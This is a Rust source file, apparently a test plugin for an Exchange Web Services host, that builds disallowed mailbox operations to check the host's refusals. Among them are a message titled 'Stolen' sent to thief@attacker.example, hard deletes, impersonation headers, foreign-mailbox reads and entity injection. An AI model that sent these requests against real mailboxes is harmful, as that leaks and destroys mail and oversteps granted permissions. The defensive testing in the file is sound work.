//! Operations that the host must not sign, written by hand, and one that it may.

use ews_plugin_sdk::{CallError, Document, Mailbox};

use crate::attack::Through;

pub(crate) const NAMESPACES: &str = "xmlns:m=\"http://schemas.microsoft.com/exchange/services/2006/messages\" \
                          xmlns:t=\"http://schemas.microsoft.com/exchange/services/2006/types\"";

/// Hands an operation to the mailbox and tells what came back: `answered` with
/// the name of the root, or the error with its kind.
pub(crate) fn submit(mailbox: &dyn Mailbox, through: Through, xml: String) -> String {
    let answer = match through {
        Through::Call => mailbox.call(xml.into()),
        Through::Send => mailbox.send(xml.into(), None),
        Through::ReadAll => match mailbox.read_all(vec![xml]).pop() {
            Some(answer) => answer,
            None => return "no answer".into(),
        },
    };
    tell(answer)
}

fn tell(answer: Result<Document, CallError>) -> String {
    match answer {
        Ok(document) => {
            let root = document.xml.split([' ', '>', '/']).next().unwrap_or_default();
            format!("answered: {}", root.trim_start_matches('<'))
        }
        Err(CallError::Refused(reason)) => format!("refused: {reason}"),
        Err(CallError::Exchange(error)) => format!("exchange: {}: {}", error.code, error.message),
        Err(CallError::Unavailable(reason)) => format!("unavailable: {reason}"),
    }
}

/// The honest operation: what the inbox is called.
pub(crate) fn display_name(mailbox: &dyn Mailbox) -> String {
    match mailbox.call(get_folder().into()) {
        Ok(document) => match between(&document.xml, "DisplayName>", "</") {
            Some(name) => name.to_owned(),
            None => "answered without a display name".to_owned(),
        },
        error => tell(error),
    }
}

/// Good enough for one element without attributes, whatever its prefix.
fn between<'a>(text: &'a str, start: &str, end: &str) -> Option<&'a str> {
    let (_, rest) = text.split_once(start)?;
    rest.split_once(end).map(|(inner, _)| inner)
}

/// As many honest operations, one after the other; tells how far it got.
pub(crate) fn many(mailbox: &dyn Mailbox, count: usize) -> String {
    for done in 0..count {
        if let Err(error) = mailbox.call(get_folder().into()) {
            return format!("{done} operations, then {}", tell(Err(error)));
        }
    }
    format!("{count} operations")
}

pub(crate) fn get_folder() -> String {
    format!(
        "<m:GetFolder {NAMESPACES}><m:FolderShape><t:BaseShape>Default</t:BaseShape></m:FolderShape>\
         <m:FolderIds><t:DistinguishedFolderId Id=\"inbox\"/></m:FolderIds></m:GetFolder>"
    )
}

pub(crate) fn find_folder() -> String {
    format!(
        "<m:FindFolder {NAMESPACES} Traversal=\"Shallow\"><m:FolderShape><t:BaseShape>Default</t:BaseShape>\
         </m:FolderShape><m:ParentFolderIds><t:DistinguishedFolderId Id=\"msgfolderroot\"/>\
         </m:ParentFolderIds></m:FindFolder>"
    )
}

fn find_item(folder: &str) -> String {
    format!(
        "<m:FindItem {NAMESPACES} Traversal=\"Shallow\"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape>\
         </m:ItemShape><m:ParentFolderIds>{folder}</m:ParentFolderIds></m:FindItem>"
    )
}

pub(crate) fn send_item(item: &str) -> String {
    format!(
        "<m:SendItem {NAMESPACES} SaveItemToFolder=\"true\"><m:ItemIds><t:ItemId Id=\"{}\" ChangeKey=\"CQ==\"/>\
         </m:ItemIds></m:SendItem>",
        escape(item)
    )
}

pub(crate) fn delete_item(item: &str) -> String {
    format!(
        "<m:DeleteItem {NAMESPACES} DeleteType=\"HardDelete\"><m:ItemIds><t:ItemId Id=\"{}\"/></m:ItemIds>\
         </m:DeleteItem>",
        escape(item)
    )
}

pub(crate) fn create_item_send() -> String {
    format!(
        "<m:CreateItem {NAMESPACES} MessageDisposition=\"SendAndSaveCopy\"><m:Items><t:Message>\
         <t:Subject>Stolen</t:Subject><t:Body BodyType=\"Text\">All of it</t:Body><t:ToRecipients><t:Mailbox>\
         <t:EmailAddress>thief@attacker.example</t:EmailAddress></t:Mailbox></t:ToRecipients></t:Message>\
         </m:Items></m:CreateItem>"
    )
}

pub(crate) fn create_folder() -> String {
    format!(
        "<m:CreateFolder {NAMESPACES}><m:ParentFolderId><t:DistinguishedFolderId Id=\"inbox\"/>\
         </m:ParentFolderId><m:Folders><t:Folder><t:DisplayName>Planted</t:DisplayName></t:Folder></m:Folders>\
         </m:CreateFolder>"
    )
}

pub(crate) fn foreign_mailbox(mailbox: &str) -> String {
    find_item(&format!(
        "<t:DistinguishedFolderId Id=\"inbox\"><t:Mailbox><t:EmailAddress>{}</t:EmailAddress></t:Mailbox>\
         </t:DistinguishedFolderId>",
        escape(mailbox)
    ))
}

pub(crate) fn two() -> String {
    get_folder() + &create_item_send()
}

pub(crate) fn doctype() -> String {
    let operation = get_folder().replace("Id=\"inbox\"", "Id=\"&folder;\"");
    format!("<!DOCTYPE m:GetFolder [<!ENTITY folder \"inbox\">]>{operation}")
}

pub(crate) fn own_header(mailbox: &str) -> String {
    format!(
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\" {NAMESPACES}><soap:Header>\
         <t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>{}</t:PrimarySmtpAddress>\
         </t:ConnectingSID></t:ExchangeImpersonation></soap:Header><soap:Body>{}</soap:Body></soap:Envelope>",
        escape(mailbox),
        get_folder()
    )
}

pub(crate) fn xsi_type() -> String {
    find_item(
        "<t:FolderId xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
         xsi:type=\"t:DistinguishedFolderIdType\" Id=\"inbox\"/>",
    )
}

/// An operation of about so many bytes; valid, but for its size. Made in one
/// piece, so that it fits into a component's memory.
pub(crate) fn large(bytes: usize) -> String {
    let id = "<t:DistinguishedFolderId Id=\"inbox\"/>";
    let whole = find_item(id);
    let (start, end) = whole.split_once(id).unwrap_or_default();
    let mut xml = String::with_capacity(bytes.saturating_add(whole.len()));
    xml.push_str(start);
    while xml.len() < bytes {
        xml.push_str(id);
    }
    xml.push_str(end);
    xml
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use ews_plugin_sdk::testing::{ScriptedMailbox, Through as Function};

    use super::*;

    #[test]
    fn a_refusal_is_told_in_the_hosts_words() {
        for (through, function) in [
            (Through::Call, Function::Call),
            (Through::Send, Function::Send),
            (Through::ReadAll, Function::ReadAll),
        ] {
            let mailbox = ScriptedMailbox::new("anna@contoso.example")
                .fail(CallError::Refused("SendItem is not declared".into()));
            assert_eq!(submit(&mailbox, through, send_item("A\"B")), "refused: SendItem is not declared");
            let requests = mailbox.requests();
            assert_eq!(requests[0].through, function);
            assert!(requests[0].xml.contains("Id=\"A&quot;B\""));
        }
    }

    #[test]
    fn many_operations_stop_at_the_first_refusal() {
        let mailbox = ScriptedMailbox::new("anna@contoso.example")
            .answer("<m:GetFolderResponse/>")
            .fail(CallError::Refused("enough".into()));
        assert_eq!(many(&mailbox, 5), "1 operations, then refused: enough");
    }

    #[test]
    fn the_inbox_is_read_by_whatever_prefix() {
        let mailbox = ScriptedMailbox::new("anna@contoso.example")
            .answer("<GetFolderResponse><x:DisplayName>Posteingang</x:DisplayName></GetFolderResponse>");
        assert_eq!(display_name(&mailbox), "Posteingang");
    }
}
